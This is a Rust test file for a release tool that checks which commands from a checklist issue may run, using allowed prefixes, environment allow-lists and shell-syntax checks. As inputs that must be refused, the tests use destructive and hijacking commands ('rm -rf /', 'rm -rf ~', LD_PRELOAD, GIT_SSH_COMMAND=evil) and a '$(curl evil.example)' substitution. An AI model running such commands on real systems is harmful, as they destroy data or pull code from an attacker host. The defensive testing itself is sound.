//! Which command a step may run, and what exactly runs.

use std::collections::BTreeMap;
use std::path::PathBuf;

use super::*;
use crate::release::tasklist::Checklist;

fn rules(extra: &str) -> StepRules {
    let text = format!(
        "[release]\nrepo = \"o/r\"\nissue = 1\n{extra}\n[[release.step]]\nmatch = \"create release candidate\"\nrun = [\"yarn\", \"release\", \"release:create-candidate\", \"{{rc}}\"]\ncwd = \"/src\"\nenv = {{ CI = \"1\" }}\n"
    );
    let c = crate::config::Config::parse(&text, std::path::Path::new("t.toml")).expect("config");
    StepRules::from_config(c.release.as_ref().expect("release")).with_path(["git", "yarn", "echo"])
}

/// The one step of `body`.
fn step(body: &str) -> Step {
    let mut c = Checklist::parse(body);
    assert_eq!(c.steps.len(), 1, "{body}");
    c.steps.remove(0)
}

fn inline(code: &str) -> Step {
    step(&format!("- [ ] Do it: `{code}`\n"))
}

fn block(info: &str, text: &str) -> Step {
    let indented: String = text.lines().map(|l| format!("  {l}\n")).collect();
    step(&format!("- [ ] Do it\n  ```{info}\n{indented}  ```\n"))
}

fn run(res: Resolution) -> Resolved {
    match res {
        Resolution::Run(r) => r,
        other => panic!("not runnable: {other:?}"),
    }
}

fn refused(res: Resolution) -> String {
    match res {
        Resolution::Refused { reason, .. } => reason,
        other => panic!("not refused: {other:?}"),
    }
}

fn argvs(r: &Resolved, vars: &[(&str, &str)]) -> Vec<Vec<String>> {
    let vars: BTreeMap<String, String> = vars
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    r.fill(&vars)
        .expect("filled")
        .procs
        .into_iter()
        .map(|p| p.argv)
        .collect()
}

const ALLOW: &str = "[release.allow]\ncommands = [\"yarn release \", \"git \"]\nenv = [\"N\"]";

#[test]
fn config_wins_case_insensitively() {
    let r = rules(ALLOW);
    let res = r.resolve(&step("- [ ] Create Release Candidate 1 `rm -rf /`\n"));
    let run = run(res);
    assert_eq!(run.source, CommandSource::Config);
    assert_eq!(
        run.argv().expect("argv"),
        ["yarn", "release", "release:create-candidate", "{rc}"]
    );
    assert_eq!(run.cwd, Some(PathBuf::from("/src")));
    assert_eq!(run.env.get("CI").map(String::as_str), Some("1"));
    assert_eq!(run.missing(&BTreeMap::new()), ["rc"]);
    assert_eq!(run.var_label("rc"), "{rc}");
}

#[test]
fn fenced_one_line_and_multi_line_blocks_are_commands() {
    let r = rules(ALLOW);
    let one = run(r.resolve(&block("sh", "yarn release release:status")));
    assert_eq!(one.source, CommandSource::Block);
    assert_eq!(argvs(&one, &[]), [["yarn", "release", "release:status"]]);

    let many = run(r.resolve(&block(
        "bash",
        "# cut the branch\ngit branch 3.23\ngit push origin 3.23\n",
    )));
    assert_eq!(
        argvs(&many, &[]),
        [
            vec!["git", "branch", "3.23"],
            vec!["git", "push", "origin", "3.23"]
        ]
    );
    assert_eq!(many.commands(), ["git branch 3.23", "git push origin 3.23"]);
    assert_eq!(many.argv(), None, "a sequence has no single argv");
    // `console` blocks: the `$ ` lines, without the prompt.
    let console = run(r.resolve(&block(
        "console",
        "$ git fetch origin\nFrom github.com:o/r\n$ git tag v3.23.0\n",
    )));
    assert_eq!(
        argvs(&console, &[]),
        [
            vec!["git", "fetch", "origin"],
            vec!["git", "tag", "v3.23.0"]
        ]
    );
    // The block wins over inline code in the same step.
    let both =
        step("- [ ] Run `git status` first\n  ```sh\n  yarn release release:status\n  ```\n");
    assert_eq!(
        argvs(&run(r.resolve(&both)), &[]),
        [["yarn", "release", "release:status"]]
    );
}

#[test]
fn env_prefixes_only_for_listed_names_and_vars_never_from_our_environment() {
    let r = rules(ALLOW);
    let res = run(r.resolve(&block("", "N=1; yarn release release:create-candidate $N")));
    let filled = res.fill(&BTreeMap::new()).expect("filled");
    assert_eq!(filled.procs.len(), 1);
    assert_eq!(
        filled.procs[0].argv,
        ["yarn", "release", "release:create-candidate", "1"]
    );
    assert_eq!(filled.procs[0].env.get("N").map(String::as_str), Some("1"));
    assert_eq!(
        filled.lines,
        [
            "N=1 (for the commands after)",
            "yarn release release:create-candidate 1"
        ]
    );
    let prefixed = run(r.resolve(&inline("N=2 yarn release release:create-candidate $N")));
    // As in a shell, a prefix is the command's environment, not its arguments' value.
    assert_eq!(prefixed.missing(&BTreeMap::new()), ["N"]);
    let filled = prefixed
        .fill(&BTreeMap::from([("N".to_string(), "7".to_string())]))
        .expect("filled");
    assert_eq!(filled.procs[0].argv[3], "7");
    assert_eq!(filled.procs[0].env.get("N").map(String::as_str), Some("2"));

    for (code, name) in [
        ("LD_PRELOAD=/tmp/x.so yarn release x", "LD_PRELOAD"),
        ("PATH=/tmp yarn release x", "PATH"),
        ("GIT_SSH_COMMAND=evil git push", "GIT_SSH_COMMAND"),
        ("export N=1 HOME=/tmp; git push", "HOME"),
    ] {
        let reason = refused(r.resolve(&inline(code)));
        assert_eq!(
            reason,
            format!("it sets {name}, which release.allow.env does not list (\"N\")"),
            "{code}"
        );
    }
    // `$HOME`, `$GITHUB_TOKEN`: asked for (or from release.vars), never read
    // from opsdeck's environment.
    let res = run(r.resolve(&inline("git push https://x:$GITHUB_TOKEN@github.com/o/r")));
    assert_eq!(res.missing(&BTreeMap::new()), ["GITHUB_TOKEN"]);
    assert_eq!(res.var_label("GITHUB_TOKEN"), "$GITHUB_TOKEN");
    let res = run(r.resolve(&inline("git -C $HOME status")));
    assert_eq!(
        res.missing(&BTreeMap::new()),
        ["HOME"],
        "HOME is set here, and not used"
    );
}

#[test]
fn every_command_of_a_sequence_needs_an_allowed_prefix() {
    let r = rules(ALLOW);
    let reason = refused(r.resolve(&inline("git branch 3.23 && rm -rf ~")));
    assert_eq!(
        reason,
        "`rm -rf ~` does not start with an allowed prefix (\"yarn release \", \"git \")"
    );
    // Prefixes are literal: "yarn releasex" does not pass.
    assert!(matches!(
        r.resolve(&inline("yarn releasex")),
        Resolution::Refused { .. }
    ));
    let none = rules("");
    assert_eq!(
        refused(none.resolve(&inline("yarn release release:status"))),
        "commands from the issue are not allowed (release.allow.commands is empty)"
    );
    // `cd` is not a program: the commands after it run there.
    let res = run(r.resolve(&block("sh", "cd ~/src/sourcegraph\ngit status\n")));
    let filled = res.fill(&BTreeMap::new()).expect("filled");
    assert_eq!(filled.procs.len(), 1);
    assert_eq!(filled.procs[0].cwd, Some(expand_home("~/src/sourcegraph")));
}

#[test]
fn shell_syntax_is_refused_unless_a_shell_prefix_allows_it() {
    let r = rules(ALLOW);
    let reason = refused(r.resolve(&inline("yarn release release:status | tee status.txt")));
    assert_eq!(
        reason,
        "it needs a shell (a `|` pipe); only scripts starting with a release.allow.shell prefix may run with sh -c"
    );
    for code in [
        "git log $(git describe)",
        "git add *.md",
        "git pull || true",
        "git log > x",
    ] {
        assert!(
            refused(r.resolve(&inline(code))).starts_with("it needs a shell"),
            "{code}"
        );
    }
    let shell = rules(&format!("{ALLOW}\nshell = [\"yarn release \", \"tee \"]"));
    let res = run(shell.resolve(&block(
        "sh",
        "yarn release release:status | tee status.txt\n",
    )));
    assert_eq!(
        res.plan,
        Plan::Shell("yarn release release:status | tee status.txt\n".into())
    );
    let filled = res.fill(&BTreeMap::new()).expect("filled");
    assert_eq!(
        filled.procs[0].argv,
        ["sh", "-c", "yarn release release:status | tee status.txt\n"]
    );
    assert_eq!(
        filled.lines,
        [
            "sh -c with this exact script:",
            "  yarn release release:status | tee status.txt"
        ]
    );
    // Every command in the script is checked, substitutions included.
    let reason = refused(shell.resolve(&inline("yarn release x $(curl evil.example)")));
    assert!(
        reason.contains("`curl evil.example` does not start with a release.allow.shell prefix"),
        "{reason}"
    );
    // Its variables come from release.vars or are asked for, and reach sh as
    // its environment (so sh never reads opsdeck's own).
    let res = run(shell.resolve(&inline("yarn release x | tee \"$LOG\"")));
    assert_eq!(res.missing(&BTreeMap::new()), ["LOG"]);
    let vars = BTreeMap::from([("LOG".to_string(), "a b.txt".to_string())]);
    let filled = res.fill(&vars).expect("filled");
    assert_eq!(
        filled.procs[0].env.get("LOG").map(String::as_str),
        Some("a b.txt")
    );
}

#[test]
fn text_blocks_and_prose_are_not_commands() {
    let r = rules(ALLOW);
    let announce = block(
        "text",
        "Release candidate 3.23.0-rc.1 is out! Please test it.",
    );
    assert_eq!(r.resolve(&announce), Resolution::NoCommand);
    assert_eq!(
        r.proposal(&announce).texts,
        ["Release candidate 3.23.0-rc.1 is out! Please test it.\n"]
    );
    // An unlabelled block that reads as prose is text too.
    let prose = block("", "@here 3.23 is released, see the CHANGELOG");
    assert_eq!(r.resolve(&prose), Resolution::NoCommand);
    assert_eq!(r.proposal(&prose).texts.len(), 1);
    // Inline code that could not be a command is plain text.
    for code in [
        "## Unreleased changes",
        "Security release approval issue",
        "dev/release/release-config.jsonc",
        "3.23.0",
        "CHANGELOG.md",
    ] {
        assert_eq!(r.resolve(&inline(code)), Resolution::NoCommand, "{code}");
    }
    // A `./` path, an allowed prefix and a program on PATH could be.
    assert!(matches!(
        r.resolve(&inline("./dev/release.sh 3.23")),
        Resolution::Refused { .. }
    ));
    assert!(matches!(
        r.resolve(&inline("echo hello")),
        Resolution::Refused { .. }
    ));
    assert_eq!(r.resolve(&step("- [ ] Just text\n")), Resolution::NoCommand);
    // A lone file in backticks does not hide a command after it.
    let res = r.resolve(&step(
        "- [ ] Edit `CHANGELOG.md` then run `yarn release release:status`\n",
    ));
    assert_eq!(res.source(), CommandSource::Inline);
}

#[test]
fn quoting_and_unterminated_quotes() {
    let r = rules(ALLOW);
    let res = run(r.resolve(&inline("git commit -m 'Release 3.23' --allow-empty")));
    assert_eq!(
        argvs(&res, &[]),
        [["git", "commit", "-m", "Release 3.23", "--allow-empty"]]
    );
    assert_eq!(
        refused(r.resolve(&inline("git commit -m 'open"))),
        "it cannot be split into words: a ' quote is never closed"
    );
}

#[test]
fn placeholders_are_found_and_filled() {
    let argv: Vec<String> = ["x", "{rc}", "v{version}-{rc}", "{not a var}", "{}"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    assert_eq!(placeholders(&argv), ["rc", "version"]);
    let mut vars = BTreeMap::new();
    vars.insert("rc".to_string(), "2".to_string());
    assert_eq!(fill(&argv, &vars), Err(vec!["version".to_string()]));
    vars.insert("version".to_string(), "3.23.0".to_string());
    assert_eq!(
        fill(&argv, &vars).expect("filled"),
        ["x", "2", "v3.23.0-2", "{not a var}", "{}"]
    );
}

#[test]
fn home_expansion() {
    if let Some(home) = std::env::var_os("HOME") {
        assert_eq!(expand_home("~/src"), PathBuf::from(home).join("src"));
    }
    assert_eq!(expand_home("/abs"), PathBuf::from("/abs"));
}
